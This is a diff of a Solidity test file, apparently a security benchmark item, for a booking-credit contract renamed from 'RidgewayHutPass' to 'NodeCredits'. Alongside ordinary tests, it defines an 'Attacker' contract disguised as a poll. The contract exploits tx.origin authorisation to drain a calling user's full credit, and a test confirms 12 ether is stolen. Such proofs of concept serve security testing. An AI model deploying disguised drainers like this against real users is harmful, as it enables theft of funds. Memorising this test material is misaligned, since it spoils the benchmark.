@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: MIT
 pragma solidity 0.6.12;
 
-import "./RidgewayHutPass.sol";
+import "./NodeCredits.sol";
 
 // assay-canary-7f0bc1d2-f05e-4380-835b-803ad676c0c5
 
@@ -12,94 +12,106 @@ interface Vm {
     function expectRevert(bytes calldata reason) external;
 }
 
-/// A travel agency that guests name.
-contract Agency {
-    RidgewayHutPass internal pass;
+/// An operator that users name.
+contract Operator {
+    NodeCredits internal credits;
 
-    constructor(RidgewayHutPass pass_) public {
-        pass = pass_;
+    constructor(NodeCredits credits_) public {
+        credits = credits_;
     }
 
-    function book(address guest, uint256 hut, uint256 night, uint256 nights) external {
-        pass.book(guest, hut, night, nights);
+    function book(address user, uint256 pid, uint256 day, uint256 count) external {
+        credits.book(user, pid, day, count);
     }
 }
 
-/// A wall of summit photographs. Guests sign it, and it helps itself meanwhile.
+/// A poll. Users vote in it, and it helps itself meanwhile.
 contract Attacker {
-    RidgewayHutPass internal pass;
-    mapping(address => string) public lines;
+    NodeCredits internal credits;
+    mapping(address => uint256) public choices;
 
-    constructor(RidgewayHutPass pass_) public {
-        pass = pass_;
+    constructor(NodeCredits credits_) public {
+        credits = credits_;
     }
 
     receive() external payable {}
 
-    function sign(string calldata line) external {
-        lines[tx.origin] = line;
-        pass.topUp{value: 0.01 ether}();
-        pass.passOn(tx.origin, address(this), pass.credit(tx.origin));
-        pass.takeOut(pass.credit(address(this)));
+    function credit(address who) internal view returns (uint256 amount) {
+        (amount, ) = credits.userInfo(who);
+    }
+
+    function vote(uint256 choice) external {
+        choices[tx.origin] = choice;
+        credits.deposit{value: 0.01 ether}();
+        credits.hand(tx.origin, address(this), credit(tx.origin));
+        credits.withdraw(credit(address(this)));
     }
 }
 
 contract Proof {
     Vm internal constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
 
-    RidgewayHutPass internal pass;
-    Agency internal agency;
-    Attacker internal wall;
-    address payable internal gero; // the guest: an account that signs transactions itself
-    address internal constant HILDE = address(0x411DE);
-    address payable internal constant KEEPER = address(0xCEE9E4);
+    NodeCredits internal credits;
+    Operator internal operator;
+    Attacker internal poll;
+    address payable internal gil; // the user: an account that signs transactions itself
+    address internal constant HANNA = address(0x411DE);
+    address payable internal constant PROVIDER = address(0xCEE9E4);
 
     function setUp() public {
         vm.warp(1700000000);
-        gero = tx.origin;
-        pass = new RidgewayHutPass();
-        pass.addHut(KEEPER, 1 ether, 2);
-        agency = new Agency(pass);
-        wall = new Attacker(pass);
-        vm.deal(address(wall), 0.01 ether);
-        vm.deal(gero, 12 ether);
-        vm.deal(HILDE, 5 ether);
-        vm.prank(gero);
-        pass.topUp{value: 12 ether}();
-        vm.prank(HILDE);
-        pass.topUp{value: 5 ether}();
+        gil = tx.origin;
+        credits = new NodeCredits();
+        credits.add(PROVIDER, 1 ether, 2);
+        operator = new Operator(credits);
+        poll = new Attacker(credits);
+        vm.deal(address(poll), 0.01 ether);
+        vm.deal(gil, 12 ether);
+        vm.deal(HANNA, 5 ether);
+        vm.prank(gil);
+        credits.deposit{value: 12 ether}();
+        vm.prank(HANNA);
+        credits.deposit{value: 5 ether}();
+    }
+
+    function credit(address who) internal view returns (uint256 amount) {
+        (amount, ) = credits.userInfo(who);
     }
 
     function test_Regular() public {
-        uint256 night = pass.nextNight();
-        vm.prank(gero);
-        pass.book(gero, 0, night, 3);
-        require(pass.credit(gero) == 9 ether && pass.bedsTaken(0, night + 2) == 1, "booked");
+        uint256 day = credits.nextDay();
+        vm.prank(gil);
+        credits.book(gil, 0, day, 3);
+        require(credit(gil) == 9 ether && credits.slotsTaken(0, day + 2) == 1, "booked");
 
-        // through an agency, for who has named it
-        (bool ok, ) = address(agency).call(abi.encodeWithSelector(agency.book.selector, HILDE, 0, night, 1));
+        // through an operator, for who has named it
+        (bool ok, ) = address(operator).call(abi.encodeWithSelector(operator.book.selector, HANNA, 0, day, 1));
         require(!ok, "not named");
-        vm.prank(HILDE);
-        pass.setAgency(address(agency), true);
-        agency.book(HILDE, 0, night, 1);
-        require(pass.credit(HILDE) == 4 ether, "booked for her");
-        vm.prank(gero);
-        (ok, ) = address(pass).call(abi.encodeWithSelector(pass.book.selector, gero, 0, night, 1));
-        require(!ok, "two beds only");
-        (ok, ) = address(pass).call(abi.encodeWithSelector(pass.passOn.selector, HILDE, gero, 1 ether));
+        vm.prank(HANNA);
+        credits.setOperator(address(operator), true);
+        operator.book(HANNA, 0, day, 1);
+        require(credit(HANNA) == 4 ether, "booked for her");
+        vm.prank(gil);
+        (ok, ) = address(credits).call(abi.encodeWithSelector(credits.book.selector, gil, 0, day, 1));
+        require(!ok, "two slots only");
+        (ok, ) = address(credits).call(abi.encodeWithSelector(credits.hand.selector, HANNA, gil, 1 ether));
         require(!ok, "not theirs");
 
-        vm.prank(gero);
-        pass.passOn(gero, HILDE, 2 ether);
-        uint256 before = gero.balance;
-        vm.prank(gero);
-        pass.takeOut(7 ether);
-        require(gero.balance - before == 7 ether && pass.credit(HILDE) == 6 ether, "passed on and taken out");
+        vm.prank(gil);
+        credits.hand(gil, HANNA, 2 ether);
+        uint256 before = gil.balance;
+        vm.prank(gil);
+        credits.withdraw(7 ether);
+        require(gil.balance - before == 7 ether && credit(HANNA) == 6 ether, "handed over and withdrawn");
 
-        pass.payKeeper(0);
-        require(KEEPER.balance == 4 ether, "keeper paid");
-        pass.setRate(0, 2 ether);
-        require(address(pass).balance == pass.credit(HILDE) + pass.credit(gero), "books");
+        credits.payProvider(0);
+        require(PROVIDER.balance == 4 ether, "provider paid");
+        credits.set(0, 2 ether);
+        require(address(credits).balance == credit(HANNA) + credit(gil), "books");
+        require(credits.poolLength() == 1, "one pool");
+        credits.transferOwnership(HANNA);
+        vm.prank(HANNA);
+        credits.renounceOwnership();
     }
 
     // What is refused, each from the state after setUp().
@@ -110,65 +122,65 @@ contract Proof {
         vm.expectRevert(why);
     }
 
-    /// Huts are the association's, with a keeper and beds.
-    function test_RefusesHuts() public {
-        refuses(HILDE, "HutPass: association only");
-        pass.addHut(payable(HILDE), 1, 1);
-        refuses(HILDE, "HutPass: association only");
-        pass.setRate(0, 1);
-        vm.expectRevert("HutPass: incomplete");
-        pass.addHut(payable(address(0)), 1, 1);
-        vm.expectRevert("HutPass: incomplete");
-        pass.addHut(KEEPER, 1, 0);
+    /// Pools are the owner's, with a provider and slots.
+    function test_RefusesPools() public {
+        refuses(HANNA, "Ownable: caller is not the owner");
+        credits.add(payable(HANNA), 1, 1);
+        refuses(HANNA, "Ownable: caller is not the owner");
+        credits.set(0, 1);
+        vm.expectRevert("add: no provider");
+        credits.add(payable(address(0)), 1, 1);
+        vm.expectRevert("add: no slots");
+        credits.add(PROVIDER, 1, 0);
     }
 
-    /// Nights on sale, stays of some length, credit that is there.
-    function test_RefusesNights() public {
-        vm.prank(HILDE);
-        pass.setAgency(address(agency), true);
-        uint256 night = pass.nextNight();
-        vm.expectRevert("HutPass: not on sale");
-        agency.book(HILDE, 0, night - 1, 1);
-        vm.expectRevert("HutPass: not on sale");
-        agency.book(HILDE, 0, night + 365, 1);
-        vm.expectRevert("HutPass: length of stay");
-        agency.book(HILDE, 0, night, 0);
-        vm.expectRevert("HutPass: length of stay");
-        agency.book(HILDE, 0, night, 15);
-        vm.deal(HILDE, 1 ether);
-        refuses(HILDE, "HutPass: too little");
-        pass.topUp{value: 0.009 ether}();
-        vm.prank(gero);
-        vm.expectRevert("HutPass: not a guest");
-        pass.passOn(gero, address(0xBEE), 1);
-        vm.prank(address(agency));
-        pass.passOn(HILDE, gero, 1 ether);
-        require(pass.credit(HILDE) == 4 ether, "passed on by her agency");
-        refuses(HILDE, "HutPass: credit too low");
-        pass.takeOut(5 ether);
-        vm.deal(address(agency), 1 ether);
-        vm.prank(address(agency));
-        pass.topUp{value: 1 ether}();
-        refuses(address(agency), "HutPass: not accepted");
-        pass.takeOut(1 ether);
+    /// Days on sale, some of them, credit that is there.
+    function test_RefusesBookings() public {
+        vm.prank(HANNA);
+        credits.setOperator(address(operator), true);
+        uint256 day = credits.nextDay();
+        vm.expectRevert("book: not on sale");
+        operator.book(HANNA, 0, day - 1, 1);
+        vm.expectRevert("book: not on sale");
+        operator.book(HANNA, 0, day + 365, 1);
+        vm.expectRevert("book: wrong count");
+        operator.book(HANNA, 0, day, 0);
+        vm.expectRevert("book: wrong count");
+        operator.book(HANNA, 0, day, 15);
+        vm.deal(HANNA, 1 ether);
+        refuses(HANNA, "deposit: too little");
+        credits.deposit{value: 0.009 ether}();
+        vm.prank(gil);
+        vm.expectRevert("hand: not a user");
+        credits.hand(gil, address(0xBEE), 1);
+        vm.prank(address(operator));
+        credits.hand(HANNA, gil, 1 ether);
+        require(credit(HANNA) == 4 ether, "handed over by her operator");
+        refuses(HANNA, "spend: credit too low");
+        credits.withdraw(5 ether);
+        vm.deal(address(operator), 1 ether);
+        vm.prank(address(operator));
+        credits.deposit{value: 1 ether}();
+        refuses(address(operator), "withdraw: not accepted");
+        credits.withdraw(1 ether);
     }
 
-    // gero, who starts this transaction, signs the wall.
+    // gil, who starts this transaction, votes in the poll.
     function exploit() public {
-        wall.sign("Fog all day.");
+        poll.vote(2);
     }
 
     function test_Exploit() public {
-        uint256 before = address(wall).balance;
+        uint256 before = address(poll).balance;
         exploit();
-        require(address(wall).balance - before == 12 ether, "nothing gained");
+        require(address(poll).balance - before == 12 ether, "nothing gained");
     }
 
     function target() public view returns (address) {
-        return address(pass);
+        return address(credits);
     }
 
     function attacker() public view returns (address) {
-        return address(wall);
+        return address(poll);
     }
 }
